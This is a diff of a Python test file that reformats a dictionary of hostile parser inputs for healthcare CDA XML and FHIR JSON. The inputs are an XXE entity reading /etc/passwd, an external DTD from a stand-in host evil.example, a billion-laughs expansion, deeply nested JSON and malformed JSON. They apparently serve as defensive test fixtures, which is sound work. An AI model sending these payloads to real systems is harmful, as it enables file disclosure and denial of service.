@@ -31,12 +31,16 @@ def _zip(members: dict[str, bytes], symlink: str | None = None) -> bytes:
 
 
 CASES = {
-    "xxe.xml": ('<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
-                + CDA.format("&x;")).encode(),
-    "external-dtd.xml": ('<?xml version="1.0"?><!DOCTYPE ClinicalDocument SYSTEM "http://evil.example/x.dtd">'
-                         + CDA.format("")).encode(),
-    "laughs.xml": ('<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">'
-                   '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>' + CDA.format("&c;")).encode(),
+    "xxe.xml": (
+        '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + CDA.format("&x;")
+    ).encode(),
+    "external-dtd.xml": (
+        '<?xml version="1.0"?><!DOCTYPE ClinicalDocument SYSTEM "http://evil.example/x.dtd">' + CDA.format("")
+    ).encode(),
+    "laughs.xml": (
+        '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">'
+        '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>' + CDA.format("&c;")
+    ).encode(),
     "deep.json": b'{"resourceType":"Bundle","entry":' + b"[" * 5000 + b"]" * 5000 + b"}",
     "malformed.json": b'{"resourceType": "Observation", "status": "final",, }',
     "bad-utf8.json": b'{"resourceType": "Patient", "name": [{"text": "\xff\xfe"}]}',
